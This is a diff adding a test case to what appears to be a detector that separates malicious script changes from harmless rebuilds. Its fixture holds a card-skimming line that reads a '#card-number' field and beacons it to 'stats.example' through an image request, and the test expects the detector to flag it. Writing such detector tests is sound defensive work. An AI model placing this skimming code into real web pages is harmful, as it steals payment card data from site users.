@@ -62,6 +62,13 @@ describe('noise', () => {
     expect(verdict(before, after)).toBe('rebuild')
   })
 
+  it('a new timer with an unknown function in another build of a program is no news, a new flow is', () => {
+    const send = (what: string) =>
+      `function a(f) { var safe = document.querySelector("#q").value, own = document.querySelector("#card-number").value; s("https://stats.example/?" + ${what}) } function s(u) { new Image().src = u }`
+    expect(verdict(send('safe'), send('own'))).toBe('malicious')
+    expect(verdict('x.b(1); setTimeout(y)', 'setTimeout(y); x.b(1)')).toBe('rebuild')
+  })
+
   it.each([
     ['a text', 'x.b(); y.c("t")', 'y.c("t"); x.b("and more")'],
     ['a property', 'x.b(); y.c()', 'y.c(); x.b().e'],
